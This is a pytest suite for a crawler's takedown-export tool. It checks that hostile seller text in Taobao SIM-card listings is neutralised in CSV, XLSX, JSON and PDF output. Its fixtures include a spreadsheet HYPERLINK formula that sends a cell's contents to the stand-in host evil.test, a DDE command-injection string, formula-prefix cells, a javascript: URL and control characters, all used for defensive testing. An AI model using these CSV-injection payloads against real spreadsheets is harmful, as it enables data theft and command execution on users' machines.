"""Hostile sellers' text in every export format: neutralised, and the other rows intact (#18)."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from PIL import Image, ImageStat

from crawler.cli import main
from crawler.safety import FORMULA_TRIGGERS, TRUNCATION_MARKER
from crawler.takedowns.export import COLUMNS, export_results
from tests.crawler.takedowns.conftest import listing_doc

NOW = datetime(2025, 3, 5, 9, 30, tzinfo=UTC)
HYPERLINK_TITLE = '=HYPERLINK("http://evil.test/?d="&A1,"点击查看") 免实名电话卡'
CMD_SHOP = "=cmd|' /C calc'!A0"
CONTROL_TITLE = "免实名\x00卡\x07\x1b[31m 已激活\x0b\u202e大王卡"
LONG_TITLE = "免实名电话卡" * 200  # 1,200 characters
LONG_URL = "https://item.taobao.com/item.htm?id=1&q=" + "a" * 2960  # 3,000 characters
BIG_ID = "3501210000000000001"  # 19 digits: Excel would show 3.50121E+18 for a number
COLUMN = {key: index for index, (key, _, _) in enumerate(COLUMNS)}


def _results(path: Path) -> Path:
    docs: list[dict[str, Any]] = [
        listing_doc("taobao", "101", risk=90, title=HYPERLINK_TITLE, shop_name=CMD_SHOP),
        listing_doc("taobao", "102", risk=80, title=CONTROL_TITLE, shop_name="+SUM(1,2)店"),
        listing_doc("taobao", "103", risk=70, title=LONG_TITLE, shop_name="@长标题店"),
        listing_doc("taobao", "104", risk=60, url=LONG_URL, shop_name="-长链接店"),
        listing_doc("taobao", "105", risk=50, url="javascript:alert(1)", shop_name="\t制表店"),
        listing_doc("taobao", BIG_ID, risk=40, title="已实名 成品卡", shop_name="正常卡店"),
        listing_doc("taobao", "106", risk=30, title="不是标记", takedown=False),
    ]
    # A lone surrogate (a crawled JSON "\ud800" escape): UTF-8 cannot encode it.
    docs.append(listing_doc("taobao", "107", risk=20, title="坏字符\ud800卡", shop_name="代理字符店"))
    lines = [json.dumps(doc, ensure_ascii=True) for doc in docs]
    lines.insert(2, "{not json")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def results(tmp_path: Path) -> Path:
    return _results(tmp_path / "results.jsonl")


def _export(results: Path, fmt: str, out: Path) -> Path:
    paths, problems = export_results(results, fmt, out, now=NOW)
    assert problems == [f"{results}:3: not valid JSON (Expecting property name enclosed in double quotes)"]
    assert [p.name for p in paths] == [f"takedowns_taobao_2025-03-05_001.{fmt}"]
    return paths[0]


def _no_controls(text: str) -> bool:
    return not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", text)


def test_csv_cells_cannot_start_formulas(results: Path, tmp_path: Path) -> None:
    path = _export(results, "csv", tmp_path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        header, *body = list(csv.reader(handle))
    ids = [row[COLUMN["listing_id"]] for row in body]
    assert ids == ["101", "102", "103", "104", "105", BIG_ID, "107"]  # every row, none lost
    by_id = {row[COLUMN["listing_id"]]: row for row in body}
    assert by_id["101"][COLUMN["title"]] == "'" + HYPERLINK_TITLE
    assert by_id["101"][COLUMN["shop_name"]] == "'" + CMD_SHOP
    assert by_id["102"][COLUMN["shop_name"]] == "'+SUM(1,2)店"
    assert by_id["103"][COLUMN["shop_name"]] == "'@长标题店"
    assert by_id["104"][COLUMN["shop_name"]] == "'-长链接店"
    assert by_id["105"][COLUMN["shop_name"]] == "'\t制表店"
    for row in body:
        for cell in row:
            assert cell[:1] not in FORMULA_TRIGGERS, cell[:60]
            assert _no_controls(cell.replace("\t", "")), cell[:60]
    assert by_id["102"][COLUMN["title"]] == "免实名卡[31m 已激活大王卡"
    long_title = by_id["103"][COLUMN["title"]]
    assert len(long_title) <= 1000 and long_title.endswith(TRUNCATION_MARKER.format(total=1200))
    assert len(by_id["104"][COLUMN["listing_url"]]) <= 2000
    assert by_id["107"][COLUMN["title"]] == "坏字符\ufffd卡"
    assert by_id[BIG_ID][COLUMN["shop_name"]] == "正常卡店"
    assert "第三十一条" in by_id[BIG_ID][COLUMN["rule_basis"]]
    assert "POLICY" not in path.read_text(encoding="utf-8-sig")


def test_xlsx_text_is_never_a_formula(results: Path, tmp_path: Path) -> None:
    path = _export(results, "xlsx", tmp_path)
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element at all
    sheet = load_workbook(path).active
    rows = {sheet.cell(r, COLUMN["listing_id"] + 1).value: r for r in range(2, sheet.max_row + 1)}
    assert set(rows) == {"101", "102", "103", "104", "105", BIG_ID, "107"}

    def cell(listing: str, key: str) -> Any:
        return sheet.cell(rows[listing], COLUMN[key] + 1)

    title = cell("101", "title")
    assert title.value == HYPERLINK_TITLE and title.data_type == "s" and title.quotePrefix
    shop = cell("101", "shop_name")
    assert shop.value == CMD_SHOP and shop.data_type == "s" and shop.quotePrefix
    assert cell("102", "title").value == "免实名卡[31m 已激活大王卡"
    assert cell("103", "title").value.endswith(TRUNCATION_MARKER.format(total=1200))
    # ids are text, exactly; dates are dates; cells wrap; http(s) URLs are links, others not
    big = cell(BIG_ID, "listing_id")
    assert big.value == BIG_ID and big.data_type == "s" and big.number_format == "@"
    assert cell(BIG_ID, "first_seen").value == datetime(2025, 3, 1, 8, 0)
    assert cell(BIG_ID, "first_seen").is_date
    assert cell(BIG_ID, "title").alignment.wrap_text
    assert cell(BIG_ID, "listing_url").hyperlink.target == f"https://item.example.test/taobao/{BIG_ID}"
    assert cell("105", "listing_url").hyperlink is None
    assert cell("105", "listing_url").value == "javascript:alert(1)"
    assert cell("104", "listing_url").hyperlink is None  # too long for Excel to follow
    assert cell(BIG_ID, "risk_score").value == 40
    for row in sheet.iter_rows(min_row=2):
        for item in row:
            if isinstance(item.value, str):
                assert item.data_type == "s" and _no_controls(item.value.replace("\t", ""))


def test_json_keeps_full_text_and_every_row(results: Path, tmp_path: Path) -> None:
    path = _export(results, "json", tmp_path)
    payload = json.loads(path.read_text(encoding="utf-8"))
    by_id = {row["listing_id"]: row for row in payload["rows"]}
    assert set(by_id) == {"101", "102", "103", "104", "105", BIG_ID, "107"}
    assert payload["count"] == 7
    assert by_id["103"]["title"] == LONG_TITLE
    assert by_id["104"]["listing_url"] == LONG_URL
    assert by_id["102"]["title"] == CONTROL_TITLE
    assert by_id["101"]["shop_name"] == CMD_SHOP
    # a lone surrogate (no UTF-8 form) is read as U+FFFD, as the other exports show it: the row stays
    assert by_id["107"]["title"] == "坏字符\ufffd卡"


def _png_stddev(path: Path) -> float:
    with Image.open(path) as image:
        return max(ImageStat.Stat(image.convert("L")).stddev)


@pytest.mark.browser
def test_pdf_embeds_fonts_renders_with_plain_poppler_and_keeps_every_row(
    results: Path, tmp_path: Path
) -> None:
    path = _export(results, "pdf", tmp_path / "out")
    fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True,
                           timeout=60).stdout.splitlines()
    assert len(fonts) > 2, fonts  # a header, a rule, then one line per font
    for line in fonts[2:]:
        # columns: name type encoding emb sub uni object ID; "emb" must be yes for every font
        assert re.search(r"\s(yes)\s+(yes|no)\s+(yes|no)\s+\d+\s+\d+\s*$", line), line
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True,
                          text=True, check=True, timeout=60).stdout
    compact = re.sub(r"\s+", "", text)
    for shop in ("正常卡店", "长标题店", "长链接店", "制表店", "代理字符店", "=cmd|'/Ccalc'!A0"):
        assert shop in compact, shop
    for listing in ("101", "102", "103", "104", "105", BIG_ID, "107"):
        assert f"ID{listing}" in compact, listing
    assert "taobao" in text and "2025-03-05" in text and "第三十一条" in compact
    subprocess.run(["pdftoppm", "-r", "40", "-png", str(path), str(tmp_path / "page")],
                   check=True, timeout=120)
    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) >= 2
    for page in pages:
        assert _png_stddev(page) > 5, f"{page.name} looks blank"


def test_cli_exports_from_classify_results(results: Path, tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    status = main(["takedowns", "export", "--from", str(results), "--format", "csv",
                   "--out", str(out)])
    captured = capsys.readouterr()
    assert status == 1  # one unreadable input line
    assert f"{results}:3: not valid JSON" in captured.err
    [written] = out.glob("takedowns_taobao_*_001.csv")
    assert str(written) in captured.out
    with written.open(encoding="utf-8-sig", newline="") as handle:
        assert len(list(csv.reader(handle))) == 1 + 7
    assert main(["takedowns", "export", "--format", "csv"]) == 2


def test_unclassified_input_is_named_not_silently_empty(tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    """`simwatch parse` output given instead of `simwatch classify` output."""
    parsed = tmp_path / "listings.jsonl"
    parsed.write_text("".join(json.dumps({"platform": "jd", "listing_id": str(n), "title": "手机卡"}) + "\n"
                              for n in range(3)), encoding="utf-8")
    status = main(["takedowns", "export", "--from", str(parsed), "--format", "csv",
                   "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert status == 1
    assert f"{parsed}: 3 line(s) carry no verdict" in err and "simwatch classify --input" in err
